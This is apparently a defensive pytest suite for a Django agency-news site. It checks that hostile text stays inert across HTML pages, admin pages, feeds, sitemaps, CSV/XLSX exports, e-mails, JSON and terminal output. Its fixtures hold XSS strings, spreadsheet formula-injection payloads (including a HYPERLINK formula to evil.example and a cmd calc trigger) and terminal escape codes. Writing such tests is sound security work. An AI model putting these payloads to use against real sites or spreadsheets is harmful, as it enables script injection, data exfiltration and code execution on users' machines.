"""Hostile text typed anywhere comes out inert in every output.

Public outputs: script payloads in every text field of a published post. OUTPUTS is the list
of places the text is shown: one line each, (name, kind, url-maker). `kind` chooses the check:
html/admin (no live markup), feed and xml (well-formed, inert descriptions), csv (no formulas).

Everything else, typed by staff and coordinators: staff and admin pages stay inert, e-mails
stay plain text, spreadsheets never run a formula, JSON stays JSON, the terminal gets no
escape codes.
"""

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import feedparser
import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from activities import workflow
from activities.models import Activity, ActivityType
from activities.notifications import transition_made
from activities.workflow import Action
from agencies.models import Agency, Province
from tests.factories import agency, make_activity, make_coordinator, make_photo, make_staff

pytestmark = pytest.mark.django_db


def hostile(label):
    return f'{label}<script>alert("{label}")</script>"><img src=x onerror=alert("{label}")>'


FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
LIVE_MARKUP = [
    re.compile(r"<script>alert", re.I),
    re.compile(r"<img src=x", re.I),
    re.compile(r"""href\s*=\s*["']?\s*(javascript|data|vbscript):""", re.I),
]


@pytest.fixture
def post():
    agency = Agency.objects.get(slug="peo-chiang-mai")
    agency.name, agency.name_en = hostile("agency-name"), hostile("agency-name-en")
    agency.abbreviation = 'abbr"><img src=x onerror=alert(1)>'  # 40 characters at most
    agency.website = "javascript:alert('website')"
    agency.save()
    partner = Agency.objects.exclude(pk=agency.pk).filter(is_active=True).first()
    partner.name = hostile("partner-name")
    partner.save()
    kind = ActivityType.objects.get(slug="development")
    kind.name, kind.name_en = FORMULA, hostile("type-en")
    kind.save()
    province = Province.objects.get(slug="chiang-mai")
    province.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    province.save()
    activity = make_activity(
        agency,
        status="published",
        title=hostile("title"),
        venue=hostile("venue"),
        body=(
            f"{hostile('body')}\n\n"
            "javascript:alert('body-link') และ <a href=\"javascript:alert(1)\">คลิก</a>\n\n"
            "- [ลิงก์](javascript:alert('md'))\n- data:text/html;base64,PHNjcmlwdD4="
        ),
        news_credit=hostile("news-credit"),
        photo_credit=hostile("photo-credit"),
        tags=f"{hostile('tag')}, ปลูกป่า",
        activity_type=kind,
        province=province,
        is_featured=True,
    )
    activity.partners.add(partner)
    make_photo(activity, is_cover=True, caption=hostile("caption"), alt_text=hostile("alt"))
    make_photo(activity, order=1, caption=hostile("caption-2"), alt_text=hostile("alt-2"))
    return activity


@pytest.fixture
def coordinator_client(client):
    user = get_user_model().objects.create_superuser("root", "root@example.com", "x")
    client.force_login(user)
    return client


def _admin_change(model):
    def url(post):
        obj = post if model is Activity else post.agency
        return f"/admin/{model._meta.app_label}/{model._meta.model_name}/{obj.pk}/change/"

    return url


def _admin_changelist(model, query=""):
    def url(post):
        return f"/admin/{model._meta.app_label}/{model._meta.model_name}/{query}"

    return url


PAYLOAD_Q = "?q=" + "%3Cscript%3Ealert(1)%3C/script%3E%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"
OUTPUTS = [
    ("detail page", "html", lambda p: p.get_absolute_url()),
    ("detail page (English)", "html", lambda p: "/en" + p.get_absolute_url()),
    ("home", "html", lambda p: "/"),
    ("feed", "html", lambda p: "/activities/"),
    ("search", "html", lambda p: "/activities/" + PAYLOAD_Q),
    ("agency page", "html", lambda p: p.agency.get_absolute_url()),
    ("agency directory search", "html", lambda p: "/agencies/" + PAYLOAD_Q),
    ("partner agency page", "html", lambda p: p.partners.first().get_absolute_url()),
    ("statistics", "html", lambda p: "/stats/?year=2569"),
    ("site map page", "html", lambda p: "/site-map/"),
    ("RSS", "feed", lambda p: "/feed/"),
    ("Atom", "feed", lambda p: "/feed/atom/"),
    ("agency RSS", "feed", lambda p: f"{p.agency.get_absolute_url()}feed/"),
    ("agency Atom", "feed", lambda p: f"{p.agency.get_absolute_url()}feed/atom/"),
    ("type RSS", "feed", lambda p: "/feed/types/development/"),
    ("sitemap activities", "xml", lambda p: "/sitemap-activities.xml"),
    ("sitemap agencies", "xml", lambda p: "/sitemap-agencies.xml"),
    ("stats CSV by type", "csv", lambda p: "/stats/types.csv?year=2569"),
    ("stats CSV by province", "csv", lambda p: "/stats/provinces.csv?year=2569"),
    ("admin activity list", "admin", _admin_changelist(Activity)),
    ("admin activity search", "admin", _admin_changelist(Activity, PAYLOAD_Q)),
    ("admin activity", "admin", _admin_change(Activity)),
    ("admin agency list", "admin", _admin_changelist(Agency)),
    ("admin agency search", "admin", _admin_changelist(Agency, PAYLOAD_Q)),
    ("admin agency", "admin", _admin_change(Agency)),
]


def check_html(text):
    found = [pattern.pattern for pattern in LIVE_MARKUP if pattern.search(text)]
    # JSON-LD is a <script> element: its text must never be able to close it.
    for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S):
        if "<" in block:
            found.append("raw < inside JSON-LD")
    return found


def check_xml(text):
    root = ET.fromstring(text.encode())  # well-formed
    found = ["raw <script> in the XML"] if "<script" in text.lower() else []
    # Descriptions and summaries are HTML to feed readers: after one level of XML they must
    # still be inert text.
    for element in root.iter():
        if element.tag.split("}")[-1] in ("description", "summary", "content", "subtitle"):
            found += [f"{element.tag}: {p}" for p in check_html(element.text or "")]
    return found


def check_feed(text):
    parsed = feedparser.parse(text)
    return check_xml(text) + ([f"not a valid feed: {parsed.bozo_exception}"] if parsed.bozo else [])


def check_csv(text):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    return [
        f"formula cell {cell!r}"
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


CHECKS = {
    "html": check_html,
    "admin": check_html,
    "xml": check_xml,
    "feed": check_feed,
    "csv": check_csv,
}


@pytest.mark.parametrize(("name", "kind", "url"), OUTPUTS)
def test_payloads_render_inert(client, coordinator_client, post, name, kind, url):
    response = (coordinator_client if kind == "admin" else client).get(url(post))
    assert response.status_code == 200, name
    text = response.content.decode()
    assert not CHECKS[kind](text), (name, CHECKS[kind](text))


def test_the_payloads_are_really_shown(client, post):
    """Guards the test itself: the escaped forms are on the page, so the checks saw them."""
    text = client.get(post.get_absolute_url()).content.decode()
    for label in ("title", "venue", "body", "news-credit", "photo-credit", "tag", "caption"):
        assert f"{label}&lt;script&gt;alert(" in text, label
    assert "alt&lt;script&gt;" in text or "alt&lt;script&gt;" in text.replace("&quot;", '"')
    assert "agency-name&lt;script&gt;" in text


def test_body_links_to_javascript_are_not_clickable(client, post):
    text = client.get(post.get_absolute_url()).content.decode()
    story = text.split('class="activity-story prose">', 1)[1].split("</div>", 1)[0]
    assert "javascript:alert(&#x27;body-link&#x27;)" in story or "javascript:alert(" in story
    assert not re.search(r"<a [^>]*href=\"(?!https?://)", story)


def test_json_ld_cannot_close_its_script_element(client, post):
    text = client.get(post.get_absolute_url()).content.decode()
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', text, re.S).group(1)
    assert "\\u003C/script\\u003E" in block


# ---- staff pages and the admin --------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
HOSTILE = SCRIPT + ATTRIBUTE
# What a spreadsheet would run as a formula (OWASP CSV injection), one per agency name.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")' + SCRIPT,
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
MARCH = {"period": "month", "year": "2569", "month": "3"}


class Findings(HTMLParser):
    """What a browser would run, and the text and attribute values it would show."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.dangers, self.shown, self._in_script = [], [], False

    def handle_starttag(self, tag, attrs):
        script_types = ("application/ld+json", "application/json")
        self._in_script = tag == "script" and dict(attrs).get("type") not in script_types
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.dangers.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction") and value.startswith(
                ("javascript:", "data:text")
            ):
                self.dangers.append(f"<{tag} {name}={value}>")
            self.shown.append(value)

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert" in data:
            self.dangers.append(f"<script>{data}")
        self.shown.append(data.lower())


def inspect(html):
    parser = Findings()
    parser.feed(html)
    return parser.dangers, " ".join(parser.shown)


@pytest.fixture
def world(client):
    """One post with hostile text everywhere, its author, its agency, a coordinator."""
    home = agency("peo-chiang-mai")
    home.name = FORMULAS[0]
    home.save()
    for slug, name in zip(
        ["peo-lamphun", "peo-lampang", "peo-phrae", "peo-nan", "peo-phayao"],
        FORMULAS[1:],
        strict=True,
    ):
        other = agency(slug)
        other.name = name
        other.save()
    kind = ActivityType.objects.get(slug="development")
    kind.name = kind.name_en = "=1+2" + SCRIPT
    kind.save()
    author = make_staff(home, "author", first_name=HOSTILE, last_name="=cmd")
    coordinator = make_coordinator("coord", first_name=HOSTILE)
    fields = {
        name: f"{name}:{HOSTILE}"
        for name in ("title", "venue", "news_credit", "photo_credit", "tags")
    }
    post = make_activity(
        home,
        by=author,
        status="submitted",
        body=f"{HOSTILE}\n\njavascript:alert(1)\n\n[x](javascript:alert(1))",
        start_date=datetime.date(2026, 3, 5),
        **fields,
    )
    make_photo(post, is_cover=True, caption=f"caption:{HOSTILE}", alt_text=f"alt:{HOSTILE}")
    workflow.return_to_author(post, by=coordinator, note=f"note:{HOSTILE}")
    post.refresh_from_db()
    return {"post": post, "author": author, "coordinator": coordinator, "client": client}


def as_user(world, who):
    world["client"].force_login(world[who])
    return world["client"]


def get(world, who, url, params=None):
    response = as_user(world, who).get(url, params or {})
    assert response.status_code == 200, url
    return response.content.decode()


def staff_list(w):
    return get(w, "author", reverse("staff:list"))


def staff_edit(w):
    return get(w, "author", reverse("staff:edit", args=[w["post"].pk]))


def staff_preview(w):
    return get(w, "author", reverse("staff:preview", args=[w["post"].pk]))


def admin_changelist(w):
    return get(w, "coordinator", reverse("admin:activities_activity_changelist"), {"status": "all"})


def admin_change(w):
    return get(w, "coordinator", reverse("admin:activities_activity_change", args=[w["post"].pk]))


def admin_history(w):
    return get(w, "coordinator", reverse("admin:activities_activity_history", args=[w["post"].pk]))


def admin_return_confirmation(w):
    workflow.submit(w["post"], by=w["author"])
    data = {"action": "return_to_author", "_selected_action": [w["post"].pk]}
    response = as_user(w, "coordinator").post(
        reverse("admin:activities_activity_changelist") + "?status=all", data
    )
    assert response.status_code == 200
    return response.content.decode()


def admin_users(w):
    return get(w, "coordinator", reverse("admin:auth_user_changelist"))


def admin_user_change(w):
    return get(w, "coordinator", reverse("admin:auth_user_change", args=[w["author"].pk]))


def reports_page(w):
    workflow.submit(w["post"], by=w["author"])
    workflow.publish(w["post"], by=w["coordinator"])
    return get(w, "coordinator", reverse("reports:report"), MARCH)


# output: (the page, what of the hostile text it must show, escaped)
PAGES = {
    "staff list": (staff_list, ["title:", "note:"]),
    "staff edit form": (staff_edit, ["title:", "venue:", "news_credit:", "tags:", "caption:"]),
    "staff preview": (staff_preview, ["title:", "venue:", "photo_credit:", "tags:", "alt:"]),
    "admin changelist": (admin_changelist, ["title:", "alt:"]),
    "admin change page": (admin_change, ["title:", "venue:", "caption:", "alt:", "note:"]),
    "admin history": (admin_history, ["title:"]),
    "admin return-note confirmation": (admin_return_confirmation, ["title:", "=hyperlink"]),
    "admin user list": (admin_users, ["<script>alert(1)</script>"]),
    "admin user change page": (admin_user_change, ["<script>alert(1)</script>"]),
    "reports page": (reports_page, ["=hyperlink", "-1+1", "=1+2<script>"]),
}


@pytest.mark.parametrize("output", PAGES)
def test_page_shows_hostile_text_inert(world, output):
    render, expected = PAGES[output]
    dangers, shown = inspect(render(world))
    assert dangers == []
    for text in expected:
        assert text + ("" if text.startswith(("<", "=", "-")) else HOSTILE.lower()) in shown


def test_body_link_with_javascript_scheme_is_not_clickable_in_the_preview(world):
    page = staff_preview(world)
    assert 'href="javascript' not in page.lower()
    assert "javascript:alert(1)" in inspect(page)[1]


# ---- e-mails: plain text only; an HTML part, if one is ever added, must be escaped -----


def emails_for(world, action):
    mail.outbox.clear()
    entry = world["post"].transitions.filter(action=action).latest("created_at")
    transition_made(entry)
    return mail.outbox


@pytest.mark.parametrize("action", [Action.SUBMIT, Action.RETURN, Action.PUBLISH])
def test_emails_are_plain_text(world, action, settings):
    if action == Action.PUBLISH:
        workflow.submit(world["post"], by=world["author"])
        workflow.publish(world["post"], by=world["coordinator"])
    make_coordinator("reader", first_name="อ่าน")  # submitted mails go to coordinators
    sent = emails_for(world, action)
    assert sent
    for message in sent:
        assert "title:" + HOSTILE in message.body  # plain text: shown as typed, not escaped
        assert message.content_subtype == "plain"
        for content, mimetype in getattr(message, "alternatives", []):
            assert mimetype != "text/html" or inspect(content)[0] == []


# ---- spreadsheets ----------------------------------------------------------------------


def csv_cells(world, slug):
    reports_page(world)
    response = world["client"].get(reverse("reports:csv", args=[slug]), MARCH)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("slug", ["agencies", "missing", "types"])
def test_csv_cells_never_start_a_formula(world, slug):
    cells = csv_cells(world, slug)
    assert cells
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_csv_keeps_the_hostile_names_readable(world):
    cells = csv_cells(world, "missing")
    assert "'-1+1" in cells
    assert "'@SUM(1+1)" in cells


def test_xlsx_stores_formula_looking_cells_as_text(world):
    reports_page(world)
    response = world["client"].get(reverse("reports:xlsx"), MARCH)
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert any("HYPERLINK" in str(c.value) for c in cells)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    strings = [c.value for c in cells if isinstance(c.value, str)]
    assert [s for s in strings if s[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_xlsx_export_survives_control_characters_in_names(world):
    lamphun = agency("peo-lamphun")
    lamphun.name = "ชื่อ\x0bมีอักขระควบคุม\x1b[31m"
    lamphun.save()
    reports_page(world)
    response = world["client"].get(reverse("reports:xlsx"), MARCH)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    names = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    assert "ชื่อ มีอักขระควบคุม[31m" in names  # the vertical tab was a line break


# ---- my data, import_staff -------------------------------------------------------------


def test_my_data_is_valid_json_with_the_text_as_typed(world):
    response = as_user(world, "author").get(reverse("my_data"))
    assert response["Content-Type"].startswith("application/json")
    data = json.loads(response.content)
    assert data["profile"]["first_name"] == HOSTILE
    assert data["activities"][0]["title"] == "title:" + HOSTILE
    assert data["activities"][0]["photos"][0]["alt_text"] == "alt:" + HOSTILE


def test_import_staff_output_has_no_terminal_escape_codes(tmp_path, db):
    source = tmp_path / "staff.csv"
    quoted = HOSTILE.replace('"', '""')
    source.write_text(
        "username,full name,email,agencies,role\n"
        f'good,"{quoted}",good@example.com,peo-chiang-mai,staff\n'
        "bad\x1b[2J\x1b]0;pwned\x07,x,x@example.com,peo-chiang-mai,staff\n"
        "other,x,\x1b[31mred@example.com,peo-chiang-mai,\x1b[5mboss\n",
        encoding="utf-8",
    )
    out, err = io.StringIO(), io.StringIO()
    call_command("import_staff", str(source), stdout=out, stderr=err)
    printed = out.getvalue() + err.getvalue()
    assert "\x1b" not in printed and "\x07" not in printed
    assert "แถวที่ 3" in printed  # the refusal is still reported, defanged
    assert get_user_model().objects.get(username="good").first_name == HOSTILE.split(" ")[0]
